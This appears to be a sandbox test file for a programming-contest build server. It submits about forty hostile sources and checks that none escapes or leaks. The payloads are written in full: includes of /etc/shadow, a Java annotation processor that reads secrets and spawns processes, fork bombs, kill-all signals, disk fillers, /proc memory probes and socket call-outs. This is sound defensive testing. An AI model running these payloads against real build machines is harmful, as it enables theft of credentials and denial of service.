"""Hostile builds: sources that attack the compiler's machine. None gets out, all end within their limits.

Usage: hostile_build_test.py TAISEN SOURCE_ROOT
"""
import os
import socket
import subprocess
import sys
import tempfile

from kit import tap
from kit.site_kit import TMP, wait_for
from kit.leftovers import end_group
from kit.submit_kit import Author, Worker, make_league, need_cage, player, rows, serve, taisen, zipped

need_cage("weak")

BUILD_S = "4"
make_league("main", ("main", "reborn", ["--set", "games=2"]))
SITE = serve("main", "--submissions", "1000")
GOOD = player("good")
MARK = f"taisen-stray-{os.getpid()}"  # in the command line of whatever must not be left running
CANARY = os.path.join(TMP, "canary")  # nobody may read or change it
with open(CANARY, "w", encoding="utf-8") as f:
    f.write("CANARY-SECRET")
os.chmod(CANARY, 0o666)
# Whoever reaches the network reaches this.
EAR = socket.socket()
EAR.bind(("127.0.0.1", 0))
EAR.listen(64)
EAR.setblocking(False)
PORT = EAR.getsockname()[1]


def in_build(code):
    """A Python program whose build runs this: the compiler finds a module of its own name in the folder."""
    return zipped({"player.py": GOOD, "py_compile.py": "import os, sys, time, socket, subprocess\n" + code})


def processor():
    """A Java program with an annotation processor: code that javac itself runs."""
    folder = tempfile.mkdtemp(dir=TMP)
    source = """
import java.util.*; import javax.annotation.processing.*; import javax.lang.model.element.*; import java.nio.file.*;
public class Evil extends AbstractProcessor {
    public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) {
        try { Files.write(Paths.get("%s"), "evil".getBytes()); } catch (Throwable t) { System.err.println("file: " + t); }
        try { new java.net.Socket("127.0.0.1", %d); } catch (Throwable t) { System.err.println("net: " + t); }
        try { new ProcessBuilder("setsid", "python3", "-c", "import time; time.sleep(1000)", "%s").start(); } catch (Throwable t) { System.err.println("run: " + t); }
        try { System.err.println(new String(Files.readAllBytes(Paths.get("/etc/shadow")))); } catch (Throwable t) { System.err.println("read: " + t); }
        return false;
    }
    public Set<String> getSupportedAnnotationTypes() { return Collections.singleton("*"); }
}
""" % (CANARY, PORT, MARK)
    with open(os.path.join(folder, "Evil.java"), "w", encoding="utf-8") as file:
        file.write(source)
    subprocess.run(["javac", "-proc:none", "Evil.java"], cwd=folder, check=True, timeout=120, capture_output=True)
    with open(os.path.join(folder, "Evil.class"), "rb") as file:
        compiled = file.read()
    return zipped({"Player.java": "public class Player { public static void main(String[] a) { } }", "Evil.class": compiled,
                   "META-INF/services/javax.annotation.processing.Processor": "Evil\n"})


TEMPLATES = """
template <int N> struct A { typedef typename A<N - 1>::a a; typedef typename A<N - 1>::b b; };
template <class X, class Y> struct P {}; template <> struct A<0> { typedef int a; typedef int b; };
template <int N, class T> struct D { typedef typename D<N - 1, P<T, int>>::t l; typedef typename D<N - 1, P<int, T>>::t r; typedef P<l, r> t; };
template <class T> struct D<0, T> { typedef T t; };
D<40, int>::t x; int main() { }
"""
WORDS = "".join(f"#define A{i} A{i - 1} A{i - 1} A{i - 1} A{i - 1}\n" for i in range(1, 30))
FORK = "while True:\n    try: os.fork()\n    except OSError: pass\n"
DAEMON = f"""
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(3, 256):
                try: os.close(fd)
                except OSError: pass
            os.execvp("python3", ["python3", "-c", "import time; time.sleep(1000)", "{MARK}"])
        os._exit(0)
"""
# Name, language, file, bytes. All of them are broken in the end, or play as the program they are.
BUILDS = {
    "reads shadow": ("player.c", '#include "/etc/shadow"\nint main(void) { }'),
    "reads passwd": ("player.c", '#include "/etc/passwd"\nint main(void) { }'),
    "reads the canary": ("player.c", f'#include "{CANARY}"\nint main(void) {{ }}'),
    "reads the league": ("player.c", f'asm(".incbin \\"{TMP}/main/league.db\\"");\nint main(void) {{ }}'),
    "includes zeros": ("player.c", '#include "/dev/zero"\nint main(void) { }'),
    "includes its input": ("player.c", '#include "/dev/stdin"\nint main(void) { return 0; }'),
    "includes itself": ("player.c", "#include __FILE__\n#include __FILE__\nint main(void) { }"),
    "binds shadow in": ("player.c", 'asm(".incbin \\"/etc/shadow\\"");\nint main(void) { }'),
    "binds zeros in": ("player.c", 'asm(".incbin \\"/dev/zero\\"");\nint main(void) { }'),
    "an array of all memory": ("player.c", "char a[1ull << 40] = {1};\nint main(void) { }"),
    "a main of all memory": ("player.c", "main[-1u] = {1};"),
    "endless words": ("player.c", WORDS + "#define A0 x\nint main(void) { A29 }"),
    "loud errors": ("player.c", "".join(f"#error {'x' * 500} {i}\n" for i in range(1500))),
    "endless templates": ("player.cpp", TEMPLATES),
    "a processor of annotations": ("player.zip", processor()),
    "go embeds": ("player.go", 'package main\nimport _ "embed"\n//go:embed /etc/passwd\nvar s string\nfunc main() { print(s) }'),
    "go's linker": ("player.go", 'package main\n/*\n#cgo CFLAGS: -fplugin=./x.so\n#cgo LDFLAGS: -Wl,-rpath,/tmp\n*/\nimport "C"\nfunc main() { }'),
    "go generates": ("player.go", f"package main\n//go:generate touch {CANARY}.evil\nfunc main() {{ }}"),
    "go fetches": ("player.go", 'package main\nimport _ "github.com/evil/evil"\nfunc main() { }'),
    "rust includes": ("player.rs", 'fn main() { println!("{}", include_str!("/etc/shadow")); }'),
    "rust binds zeros in": ("player.rs", 'static A: &[u8] = include_bytes!("/dev/zero");\nfn main() { println!("{}", A.len()); }'),
    "rust counts for ever": ("player.rs", "const fn f() -> u64 { let mut i = 0; while i < u64::MAX { i += 1; } i }\nconst A: u64 = f();\nfn main() { println!(\"{}\", A); }"),
    "forks": ("player.zip", in_build(FORK)),
    "leaves daemons": ("player.zip", in_build(DAEMON)),
    "kills everybody": ("player.zip", in_build("import signal\nos.kill(-1, signal.SIGKILL)\n")),
    "sleeps": ("player.zip", in_build("time.sleep(1000)\n")),
    "shouts": ("player.zip", in_build("while True: sys.stderr.write('x' * 65536)\n")),
    "eats memory": ("player.zip", in_build("a = []\nwhile True: a.append(bytearray(1 << 24))\n")),
    "fills the disk": ("player.zip", in_build("f = open('big', 'wb')\nwhile True: f.write(bytes(1 << 20))\n")),
    "fills the disk with files": ("player.zip", in_build("for i in range(10**6): open(f'f{i}', 'w').close()\n")),
    "leaves a link": ("player.zip", in_build("os.symlink('/etc/passwd', 'link')\n")),
    "leaves itself as a link": ("player.zip", in_build("os.remove('player.py'); os.symlink('/etc/passwd', 'player.py')\n")),
    "leaves a pipe": ("player.zip", in_build("os.mkfifo('pipe')\n")),
    "leaves a path": ("player.zip", in_build("d = 'd' * 90\nfor i in range(40): os.mkdir(d); os.chdir(d)\nopen('x', 'w').close()\n")),
    "leaves strange names": ("player.zip", in_build("open('a\\nb', 'w').close(); open(b'\\xff', 'w').close()\n")),
    "leaves what is not its own": ("player.zip", in_build("os.chmod('player.py', 0o6777)\n")),
    "writes outside": ("player.zip", in_build(
        f"for p in ('{CANARY}', '{CANARY}.evil', '/etc/evil', '/usr/evil', '/evil', '../evil', '/proc/sysrq-trigger', '/sys/evil'):\n"
        "    try: open(p, 'w').write('evil'); print('WROTE', p, file=sys.stderr)\n    except OSError as e: print(e, file=sys.stderr)\n")),
    "looks around": ("player.zip", in_build(
        f"for p in ('/root', '/home', '/var', '/etc', '/tmp', '{TMP}', '/work', '/proc'):\n"
        "    try: print(p, os.listdir(p), file=sys.stderr)\n    except OSError as e: print(e, file=sys.stderr)\n"
        "print(dict(os.environ), file=sys.stderr)\nsys.exit(1)\n")),
    "asks the first process": ("player.zip", in_build(
        "for pid in ('1', '1/task/1', 'self', str(os.getppid())):\n"
        "    for name in ('environ', 'mem', 'maps', 'cmdline', 'fd', 'root', 'status'):\n"
        "        p = f'/proc/{pid}/{name}'\n"
        "        try: print('SAW' if pid[0] == '1' else p, os.listdir(p) if name in ('fd', 'root') else open(p, 'rb').read(4096), file=sys.stderr)\n"
        "        except OSError as e: print(e, file=sys.stderr)\n"
        "try: os.open('/proc/1/mem', os.O_RDWR); print('SAW memory', file=sys.stderr)\nexcept OSError: pass\nsys.exit(1)\n")),
    "calls out": ("player.zip", in_build(
        f"for f in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):\n"
        f"    try: socket.socket(f).connect(('127.0.0.1', {PORT})); print('REACHED', file=sys.stderr)\n"
        "    except (OSError, TypeError) as e: print(e, file=sys.stderr)\nsys.exit(1)\n")),
    "speaks for the builder": ("player.zip", in_build(
        "for pid in os.listdir('/proc'):\n"
        "    for fd in ('1', '3'):\n"
        "        try: os.write(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY), b'\\0' * 5000 + b'unpacked\\n' * 1000)\n"
        "        except (OSError, ValueError): pass\n")),
    "is never done": ("player.zip", in_build("import threading\nfor _ in range(50): threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()\n")),
}
NEVER_PLAY = set(BUILDS) - {"leaves daemons", "leaves what is not its own", "writes outside", "includes its input", "go generates"}
RESULTS = {}


def test_there_are_enough_of_them():
    assert len(BUILDS) >= 20


def test_all_of_them_end():
    # What a worker may have in its environment, whether it should or not.
    os.environ.update({"PGPASSWORD": "CANARY-SECRET", "TAISEN_DB": "postgres://worker:CANARY-SECRET@localhost/league"})
    workers = [Worker("main", "--build-limit", BUILD_S, "--lease-ms", "600000") for _ in range(2)]
    sent = []
    for number, (name, (file, source)) in enumerate(BUILDS.items()):
        author = Author(SITE, f"hostile{number}")
        sent.append((name, author, author.sent(file, source)))
    for name, author, number in sent:
        RESULTS[name] = author.built(number)
    assert all(worker.process.poll() is None for worker in workers), "a worker was ended"
    for worker in workers:
        end_group(worker.process)
    wrong = {name: b for name, b in RESULTS.items() if b["state"] not in ("broken", "active", "old")}
    assert not wrong, wrong
    played = [name for name in NEVER_PLAY if RESULTS[name]["state"] != "broken"]
    assert not played, played
    assert all(rows("main", "SELECT tries FROM submissions WHERE id = ?", b["id"]) == [(1,)] for b in RESULTS.values())


def test_nothing_was_read_that_is_not_theirs():
    for name, b in RESULTS.items():
        log = (b["log"] or "") + str(b["report"])
        for secret in ("root:x:", "root:$", "root:*", "CANARY-SECRET", "league.db-wal", "SQLite format", "WROTE", "REACHED", "SAW"):
            assert secret not in log.replace("`league.db", ""), (name, secret, log[-2000:])
    look = RESULTS["looks around"]["log"]
    assert "authorized" not in look and "TAISEN" not in look and "HOME" in look, look
    for _, bytes_ in rows("main", "SELECT version, bytes FROM programs"):
        assert b"CANARY-SECRET" not in bytes_


def test_nothing_was_changed_or_left():
    with open(CANARY, encoding="utf-8") as file:
        assert file.read() == "CANARY-SECRET"
    for folder in (TMP, "/", "/etc", "/usr", "/home", "/tmp"):
        assert not [name for name in os.listdir(folder) if "evil" in name], folder
    try:
        EAR.accept()
        raise AssertionError("somebody reached the network")
    except BlockingIOError:
        pass

    def strays():
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    if MARK.encode() in file.read():
                        found.append(pid)
            except OSError:
                pass
        return found

    wait_for(lambda: not strays())
    for folder, _, files in os.walk(os.path.join(TMP, "main", "programs")):
        assert not any(os.path.islink(os.path.join(folder, name)) or os.stat(os.path.join(folder, name)).st_mode & 0o6000 for name in files)


def test_logs_are_bounded_and_keep_their_end():
    for name in ("shouts", "loud errors"):
        assert len(RESULTS[name]["log"]) < 100_000, name
    assert all(len(rows("main", "SELECT log FROM submissions WHERE id = ?", b["id"])[0][0]) < 500_000 for b in RESULTS.values())


def test_honest_programs_are_built_afterwards():
    Worker("main")
    author = Author(SITE, "honest")
    assert author.built(author.sent("player.py", GOOD))["state"] == "active"
    assert author.built(author.sent("player.c", "int main(void) { return 0; }"))["state"] == "broken"
    taisen("db", "check", "--db", os.path.join(TMP, "main", "league.db"))


if __name__ == "__main__":
    tap.run(sys.modules[__name__])
